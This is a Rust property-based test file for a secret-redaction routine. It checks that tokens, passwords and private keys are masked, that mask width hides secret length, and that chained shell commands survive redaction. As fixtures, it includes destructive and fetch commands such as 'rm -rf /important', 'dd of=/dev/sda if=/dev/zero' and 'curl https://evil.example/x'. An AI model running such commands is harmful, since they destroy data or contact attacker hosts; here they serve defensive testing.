        prop_oneof![any::<String>(), prop::collection::vec(pieces, 0..14).prop_map(|pieces| pieces.concat())];
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        text.clone().prop_map(Value::from)
    ];
    leaf.prop_recursive(4, 24, 5, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::vec((text.clone(), inner), 0..5)
                .prop_map(|fields| fields.into_iter().collect::<Map<_, _>>().into()),
        ]
    })
}

fn masks_of_other_width(text: &str) -> bool {
    text.split(|c| c != '•').any(|run| !run.is_empty() && run != MASK)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn a_planted_secret_is_nowhere(
        ((text, needle), input) in (secret(), "([a-z ]{0,8} )?", "( [a-z ]{0,8})?").prop_flat_map(|((text, needle), before, after)| {
            let text = format!("{before}{text}{after}");
            (Just((text.clone(), needle)), around(text))
        })
    ) {
        // The object of a removal matters for the decision.
        let verbs = ["rm", "rmi", "del", "kill", "stop", "drop", "delete", "remove", "destroy"];
        prop_assume!(!text.split(' ').any(|word| verbs.contains(&word)));
        for kind in VIEWS {
            let made = view(&input, kind);
            let all = format!("{} {:?}", made.value, made.hidden);
            prop_assert!(!all.contains(&needle), "{text}: {all}");
            prop_assert!(!made.hidden.is_empty());
            prop_assert!(!masks_of_other_width(&all));
        }
    }

    #[test]
    fn twice_is_once(input in any_json()) {
        for kind in VIEWS {
            let once = view(&input, kind);
            let twice = view(&once.value, kind);
            prop_assert_eq!(&twice.value, &once.value, "{}", input);
            for hidden in &once.hidden {
                prop_assert!(once.value.pointer(&hidden.pointer).is_some(), "{:?}", hidden);
            }
            prop_assert!(!once.hidden.is_empty() || kind == View::Record || once.value == input);
        }
    }

    #[test]
    fn the_length_does_not_show(one in "[A-Za-z0-9]{8,20}", two in "[A-Za-z0-9]{21,60}", shape in prop::sample::select(vec![
        "password={} x", "cli --token {} x", "https://u:{}@a.b/c", "https://a.b/?token={}&x=y", "Authorization: Bearer {}", "sk_live_{}", "{\"secret\":\"{}\"}",
        "ghp_00000000{} x", "mysql -p{} x", "-----BEGIN PRIVATE KEY-----{}-----END PRIVATE KEY-----",
    ])) {
        for kind in VIEWS {
            let [one, two] = [&one, &two].map(|secret| view(&json!({ "a": [shape.replace("{}", secret)], "password": secret }), kind));
            prop_assert_eq!(one, two);
        }
    }

    #[test]
    fn what_decides_stays(word in "[a-z]{2,8}", host in "[a-z]{2,8}\\.(com|example)", path in "(/[a-z0-9]{1,24}){0,4}", (text, _) in secret()) {
        let command = format!("{word} https://{host}{path} {text}");
        for kind in VIEWS {
            let made = view(&json!({ "command": command }), kind);
            let made = made.value["command"].as_str().unwrap_or_default().to_owned();
            let kept = format!("{word} https://{host}{path}");
            prop_assert!(made.starts_with(&kept), "{made}");
        }
    }

    #[test]
    fn an_operator_outside_of_quotes_stays(
        before in "[a-z]{1,6} ",
        opening in prop::sample::select(vec![
            "Cookie: a=b", "Cookie:a=b", "Cookie: a=b; c=d", "Authorization: x", "-H Authorization:Bearer x", "TOKEN=x", "TOKEN=", "TOKEN= ",
            "--password x", "--password", "--password=x", "-H 'Cookie: a=b'", "\"password=\"", "'a' \"b\" TOKEN=\"x;y\"", "mysql -px", "mysql -p",
            "curl -u a:b", "<token>", "secrets: [\"a\"", "https://u:p@a.b/", "https://u:p", "-----BEGIN PRIVATE KEY-----", "password:", "token: |",
            "Bearer abcdefgh1234567890", "name=password value=x", "name=password value=", "machine a login b password c", "set TOKEN x1",
            "IDENTIFIED BY 'x'", "gh secret set X --body x", "vault login x1", "password：x", "x='--token '", "\"mysql -p\"", "{\"password\": \"a\"}",
            "https://hooks.slack.com/services/T/B/x", "OPENAI_KEY=abcdefgh", "passwords=a,b", "ghp_0123456789abcdefghij",
            "-m 'fix password=\"'", "-m \"fix password='\"", "-m 'fix password=\"a'", "PASSWORD=\"a\\\\\"", "PASSWORD='a\\'", "password=\"a\\\"",
            "SET password='x\\'", "--password 'a\\'", "\"secrets\": [\"a\\\"", "# -----BEGIN PRIVATE KEY-----\n/tmp/run", "# -----BEGIN PRIVATE KEY-----\nrun",
        ]),
        operator in prop::sample::select(vec!["; ", " ; ", ";", " && ", "&&", " | ", "|", " || ", "\n", " & ", " > ", " $(", "$("]),
        command in prop::sample::select(vec!["rm -rf /important", "curl evil.example", "curl https://evil.example/x", "dd of=/dev/sda if=/dev/zero"]),
        after in prop::sample::select(vec!["", " \"", "; echo 'x'", "; echo \"x\"", " </token", " ]", "\n-----END PRIVATE KEY-----", " @x", ")"]),
    ) {
        let acts = format!("{}{command}", operator.trim());
        for kind in VIEWS {
            let made = view(&json!(format!("{before}{opening}{operator}{command}{after}")), kind).value;
            let made = made.as_str().unwrap_or_default();
            let made = if operator.trim().is_empty() { made.to_owned() } else { made.replace(&format!("{} ", operator.trim()), operator.trim()) };
            prop_assert!(made.contains(&acts), "{before}{opening}{operator}{command}{after}: {made}");
        }
    }

    #[test]
    fn words_come_out_equal(input in prop::collection::vec("[a-z]{1,12}", 0..30)) {
        let text = input.join(" ");
        prop_assume!(!["curl", "http", "zip", "rar", "bcp", "login"].iter().any(|word| text.contains(word)));
        // In a list, what follows the name of a secret is one.
        prop_assume!(input.iter().all(|word| names::secrecy(word) == names::Secrecy::Open));
        let input = json!({ "text": text, "list": input });
        prop_assert_eq!(view(&input, View::Display).value, input.clone());
        prop_assert_eq!(view(&input, View::Record).value, input);
    }
}

#[test]
fn the_worst_names_take_no_more_than_their_length() {
    for (what, name) in [
        ("equal names", (|i| format!("ghp_{i:020}")) as fn(usize) -> String),
        ("names that others have", |i| {
            if i % 2 == 0 { format!("ghp_{i:020}") } else { format!("{MASK} {}", i / 2) }
        }),
        ("different names", |i| format!("ghp_{i:020} {i}")),
    ] {
        let input = |size: usize| json!((0..size / 40).map(|i| (name(i), 1)).collect::<HashMap<_, _>>());
        assert_linear(what, TEXT - 1, input, |input| {
            let _ = std::hint::black_box(redact(input, View::Display));
        });
    }
}

#[test]
fn the_worst_text_takes_no_more_than_its_length() {
    for text in [
        "The quick brown fox jumps over the lazy dog. ",
        "const a = b(c, d);\n",
        "password=x ",
        "a=b ",
        "\"password\":",
        "password \"",
        "-----BEGIN A-----",
        "eyJ.",
        "://",
        "a://b:c",
        "mysql -p",
        "\\",
        "Ab3dE5fG7h",
        "pass",
        "g",
        "ghp",
        "'",
        "password='",
        "Bearer ",
        "token: [\"",
        "é",
        "https://a.b/c?d=e ",
        "password:'a'",
        "x\\\"password\\\":\\\"",
        "password=a,a",
        "password: str = str = ",
        "password=(",
        ";base64,Ab3dE5fG7hAb3dE5fG7h ",
        "curl -u '",
        "a-----BEGIN PUBLIC KEY-----",
        "eyJa.-",
        "eyJ",
        "eyJeyJ- .",
        "sk-",
        "[",
        "password:\n a",
        "password: |\n",
        "password=''",
        "<token>",
        "password=a://",
        "auth=$",
        "${",
        "sig='\\",
        "a:b@",
        "://a@",
        "a://b/",
        "-p curl ",
        "•password=x",
        "ghp_ ",
        "secret_name=secret_key=",
        "Cookie: a=b; ",
        "Cookie: ",
        "Authorization: x ",
        "Authorization: a, ",
        "'Cookie: ",
        "\"Authorization: a;",
        "\"password=\"; ",
        "TOKEN=a`",
        "TOKEN=\"`",
        "-----BEGIN A-----Hash: ",
        "-----BEGIN PUBLIC KEY-----\nHash: ",
        "name=token value=",
        "value=\"name=token ",
        "value='a' name=token ",
        "set token ",
        "set - ",
        "by ' by ",
        "IDENTIFIED BY '",
        "machine a login b password ",
        "password '",
        "vault login '",
        "gh secret set --body '",
        "https://hooks.slack.com/services/a/b/c/",
        "https://a:b;c@",
        "password：",
        "<token></token>",
        "token: [\"a;\"",
        "rm q7Zp2LmX9vKt4RbW8sNd ",
        "secrets: [\";",
        "password:\n a b",
        "X-----BEGIN PRIVATE KEY-----\n",
        "\\n",
        "# '",
        "key: Ab3dE5fG7h/",
        "token=${{ ",
        "token=${a",
        "token=${a}",
        "token=a}",
        "TOKEN=:>",
    ] {
        let input = |size: usize| json!(text.repeat(size / text.len()));
        assert_linear(text, TEXT - 1, input, |input| {
            let _ = std::hint::black_box(redact(input, View::Display));
        });
    }
}
